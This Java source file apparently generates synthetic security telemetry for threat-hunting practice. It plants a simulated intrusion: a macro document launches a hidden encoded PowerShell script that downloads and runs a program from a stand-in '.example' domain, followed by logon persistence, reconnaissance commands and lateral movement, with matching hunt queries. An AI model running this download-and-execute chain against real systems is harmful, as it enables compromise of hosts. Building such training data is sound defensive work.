package dev.takagari.app.fleet;

import dev.takagari.app.fleet.FleetWorld.Machine;
import dev.takagari.app.fleet.FleetWorld.Platform;
import dev.takagari.app.fleet.FleetWorld.Program;
import dev.takagari.app.fleet.FleetWorld.Running;
import dev.takagari.app.fleet.FleetWorld.User;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.Comparator;
import java.util.List;
import java.util.function.Consumer;

/// The planted intrusion: a macro starts a script, the script fetches a program, the program stays,
/// calls home and moves on. Nothing in it can harm: the domain is in `.example`, the address in a
/// documentation block.
///
/// Beside it some encoded commands of an inventory tool are played, so that the first query finds
/// more than the thief.
final class Intrusion {
  static final String DOMAIN = "cdn.lapwing-sync.example";
  static final String ADDRESS = "203.0.113.177";
  static final String FILE = "lapwingsync.exe";

  /// An event to come; `set` puts what is planted into the scene.
  record Planned(
      long time,
      Machine machine,
      Running process,
      String type,
      String what,
      boolean story,
      Consumer<Scene> set) {}

  private final FleetWorld world;
  private final Dice dice;
  private final Machine desk;
  private final Machine server;
  private final Machine other;
  private final User user;
  private final String path;
  private final String serverPath;
  private final byte[] sha256;
  private final String document;
  private final List<Planned> plan = new ArrayList<>();

  Intrusion(FleetWorld world, FleetOptions options) {
    this.world = world;
    this.dice = new Dice(options.seed(), 7);
    this.desk = world.machines()[0];
    this.server = world.machines()[1];
    this.other = world.machines()[2];
    this.user = desk.users[0];
    this.sha256 = FleetWorld.hexText(dice, 64);
    this.document =
        "\\Device\\HarddiskVolume3\\Users\\" + user.name() + "\\Downloads\\Rechnung_4471.docm";
    this.path =
        "\\Device\\HarddiskVolume3\\Users\\" + user.name() + "\\AppData\\Roaming\\Lapwing\\" + FILE;
    this.serverPath = "\\Device\\HarddiskVolume3\\Windows\\Temp\\" + FILE;
    long span = options.span().toMillis();
    long start = options.start().toEpochMilli() + span / 100 * 84;
    play(start, Math.max(1, Math.min(1000, span / 100 * 8 / 1500)));
    plan.sort(Comparator.comparingLong(Planned::time));
  }

  List<Planned> plan() {
    return plan;
  }

  /// @param second how long a second of the story lasts in milliseconds; shorter only in very short
  ///   spans
  private void play(long t, long second) {
    Program word = world.program(Platform.WINDOWS, "WINWORD.EXE");
    Program mail = world.program(Platform.WINDOWS, "OUTLOOK.EXE");
    Program shell = world.program(Platform.WINDOWS, "powershell.exe");
    Program prompt = world.program(Platform.WINDOWS, "cmd.exe");
    Program provider = world.program(Platform.WINDOWS, "WmiPrvSE.exe");
    String script =
        "$u = 'https://"
            + DOMAIN
            + "/r/4471'\r\n$p = \"$env:APPDATA\\Lapwing\\"
            + FILE
            + "\"\r\nNew-Item -ItemType Directory -Force (Split-Path $p) | Out-Null\r\nInvoke-WebRequest -Uri $u -OutFile $p -UseBasicParsing\r\nStart-Process $p -ArgumentList '--first' -WindowStyle Hidden\r\n";
    String encoded = encode(script);

    Running mailer =
        start(
            t,
            desk,
            mail,
            desk.root(3),
            "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\"",
            user,
            "the mail program starts");
    event(
        t + 40 * second,
        desk,
        mailer,
        "OoxmlFileWritten",
        "the attachment is saved",
        s -> s.touching(document, null));
    Running writer =
        start(
            t + 44 * second,
            desk,
            word,
            mailer,
            "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"C:\\Users\\"
                + user.name()
                + "\\Downloads\\Rechnung_4471.docm\" /o \"\"",
            user,
            "the document is opened");
    Running powershell =
        start(
            t + 61 * second,
            desk,
            shell,
            writer,
            "powershell.exe -NoP -NonI -W Hidden -enc " + encoded,
            user,
            "its macro starts an encoded script");
    event(
        t + 62 * second,
        desk,
        powershell,
        "ScriptControlScanInfo",
        "the script, decoded",
        s -> s.running(script));
    event(
        t + 63 * second,
        desk,
        powershell,
        "DnsRequest",
        "the script looks up a rare domain",
        s -> s.lookingUp(DOMAIN, ADDRESS));
    event(
        t + 64 * second,
        desk,
        powershell,
        "NetworkConnectIP4",
        "and connects to it",
        s -> s.talkingTo(ADDRESS, 443));
    event(
        t + 69 * second,
        desk,
        powershell,
        "NewExecutableWritten",
        "a program is downloaded",
        s -> s.touching(path, null));
    event(
        t + 70 * second,
        desk,
        powershell,
        "PeFileWritten",
        "the program is complete",
        s -> s.touching(path, sha256));
    Program tool = FleetWorld.program(path, sha256, dice);
    Running implant =
        start(
            t + 72 * second,
            desk,
            tool,
            powershell,
            "\"C:\\Users\\" + user.name() + "\\AppData\\Roaming\\Lapwing\\" + FILE + "\" --first",
            user,
            "the program runs");
    event(
        t + 73 * second,
        desk,
        implant,
        "AsepValueUpdate",
        "it makes itself start at logon",
        s ->
            s.setting(
                "\\REGISTRY\\USER\\"
                    + text(user.sid())
                    + "\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
                "LapwingSync",
                "\"C:\\Users\\"
                    + user.name()
                    + "\\AppData\\Roaming\\Lapwing\\"
                    + FILE
                    + "\" --quiet"));
    event(t + 75 * second, desk, powershell, "EndOfProcess", "the script is done", _ -> {});
    event(
        t + 80 * second,
        desk,
        implant,
        "DnsRequest",
        "the program looks up the domain",
        s -> s.lookingUp(DOMAIN, ADDRESS));
    event(
        t + 81 * second,
        desk,
        implant,
        "NetworkConnectIP4",
        "and calls home",
        s -> s.talkingTo(ADDRESS, 443));
    Running ask =
        start(
            t + 240 * second,
            desk,
            prompt,
            implant,
            "cmd.exe /d /c \"whoami /groups & net group \"Domain Admins\" /domain\"",
            user,
            "somebody looks around");
    event(t + 243 * second, desk, ask, "EndOfProcess", "and has seen enough", _ -> {});
    event(
        t + 381 * second,
        desk,
        implant,
        "DnsRequest",
        "the domain again",
        s -> s.lookingUp(DOMAIN, ADDRESS));
    event(
        t + 600 * second,
        desk,
        implant,
        "NetworkConnectIP4",
        "a file share on the second host is opened",
        s -> s.talkingTo(text(server.ip), 445));

    Running remote = server.root(1);
    event(
        t + 601 * second,
        server,
        remote,
        "UserLogon",
        "the user logs on to the second host over the network",
        s -> s.talkingTo(text(desk.ip), 0).as(user.name()));
    event(
        t + 604 * second,
        server,
        server.root(0),
        "PeFileWritten",
        "the program is copied there",
        s -> s.touching(serverPath, sha256));
    Running wmi =
        start(
            t + 607 * second,
            server,
            provider,
            remote,
            "C:\\WINDOWS\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
            world.system(),
            "remote management starts");
    Program copy =
        new Program(
            LineBuffer.json(serverPath),
            tool.base(),
            tool.sha256(),
            tool.md5(),
            tool.authenticode(),
            tool.tags(),
            List.of(),
            new byte[0][]);
    Running second2 =
        start(
            t + 608 * second,
            server,
            copy,
            wmi,
            "C:\\Windows\\Temp\\" + FILE + " --node 2",
            user,
            "and runs the program");
    event(
        t + 612 * second,
        server,
        second2,
        "DnsRequest",
        "the second host looks up the domain",
        s -> s.lookingUp(DOMAIN, ADDRESS));
    event(
        t + 613 * second,
        server,
        second2,
        "NetworkConnectIP4",
        "and calls home",
        s -> s.talkingTo(ADDRESS, 443));
    event(
        t + 900 * second,
        server,
        second2,
        "NetworkConnectIP4",
        "a third host is touched",
        s -> s.talkingTo(text(other.ip), 445));
    event(
        t + 901 * second,
        other,
        other.root(0),
        "NetworkReceiveAcceptIP4",
        "it accepts the connection",
        s -> s.talkingTo(text(server.ip), 51_544));
    event(
        t + 902 * second,
        other,
        other.root(1),
        "UserLogonFailed2",
        "and refuses the logon",
        s -> s.talkingTo(text(server.ip), 0).as(user.name()));

    Program inventory = world.program(Platform.WINDOWS, "inventory.exe");
    Machine[] machines = world.machines();
    int told = 0;
    for (int i = 3; i < machines.length && told < 3; i++) {
      Machine machine = machines[i];
      if (machine.platform == Platform.WINDOWS && !machine.roaming) {
        long at = t - 600 * second + told * 1500L;
        Running collector =
            start(
                at,
                machine,
                inventory,
                machine.root(0),
                "\"C:\\Program Files\\Harrier\\inventory.exe\" --collect=software",
                world.system(),
                "",
                false);
        start(
            at + 400,
            machine,
            shell,
            collector,
            "powershell.exe -NoProfile -enc "
                + encode(
                    "Get-ItemProperty HKLM:\\SOFTWARE\\Harrier\\Agent | ConvertTo-Json # " + told),
            world.system(),
            "",
            false);
        told++;
      }
    }
  }

  /// The story as it was written.
  FleetStory tell(List<FleetStory.Step> steps, Tally tally, List<FleetStory.Indicator> indicators) {
    String run = "registry.path:\"*\\CurrentVersion\\Run\\LapwingSync\"";
    return new FleetStory(
        FleetWorld.CID,
        List.of(
            host(desk, "where it began"),
            host(server, "where it moved to"),
            host(other, "touched, not entered")),
        Arrays.stream(world.machines())
            .filter(machine -> machine.platform == Platform.WINDOWS)
            .map(machine -> host(machine, ""))
            .toList(),
        DOMAIN,
        ADDRESS,
        document,
        FILE,
        path,
        text(sha256),
        user.name(),
        steps.isEmpty() ? Instant.EPOCH : steps.getFirst().time(),
        steps.isEmpty() ? Instant.EPOCH : steps.getLast().time(),
        steps,
        List.of(
            new FleetStory.Query(
                "process.command_line:\"*-enc *\"",
                tally.encoded(),
                "encoded scripts: an inventory tool's, and one that a document started"),
            new FleetStory.Query(
                "dns.question.name:" + DOMAIN,
                tally.domain(),
                "who looked up the rare domain: two hosts"),
            new FleetStory.Query(
                "process.hash.sha256:" + text(sha256) + " event.action:ProcessRollup2",
                tally.hash(),
                "where the downloaded program ran: two hosts")),
        List.of(
            new FleetStory.Query(
                "process.parent.name:winword.exe process.name:powershell.exe event.action:ProcessRollup2",
                tally.macro(),
                "the document starts the script"),
            new FleetStory.Query(
                "file.hash.sha256:" + text(sha256),
                tally.written(),
                "the program is written, once on each host"),
            new FleetStory.Query(run, tally.autostart(), "the program makes itself start at logon"),
            new FleetStory.Query(
                "destination.ip:" + ADDRESS,
                tally.address(),
                "connections to the address behind the domain")),
        indicators);
  }

  Tally tally(EventCatalog catalog) {
    return new Tally(catalog, text(sha256), DOMAIN, ADDRESS);
  }

  private static FleetStory.Host host(Machine machine, String role) {
    return new FleetStory.Host(machine.name, machine.aid, text(machine.ip), role);
  }

  private Running start(
      long time,
      Machine machine,
      Program program,
      Running parent,
      String command,
      User as,
      String what) {
    return start(time, machine, program, parent, command, as, what, true);
  }

  private Running start(
      long time,
      Machine machine,
      Program program,
      Running parent,
      String command,
      User as,
      String what,
      boolean story) {
    Running started = world.run(machine, program, parent, LineBuffer.json(command), time, as, dice);
    plan.add(new Planned(time, machine, started, "ProcessRollup2", what, story, _ -> {}));
    return started;
  }

  private void event(
      long time, Machine machine, Running process, String type, String what, Consumer<Scene> set) {
    plan.add(new Planned(time, machine, process, type, what, true, set));
  }

  private static String encode(String script) {
    return Base64.getEncoder().encodeToString(script.getBytes(StandardCharsets.UTF_16LE));
  }

  private static String text(byte[] ascii) {
    return new String(ascii, StandardCharsets.UTF_8);
  }
}
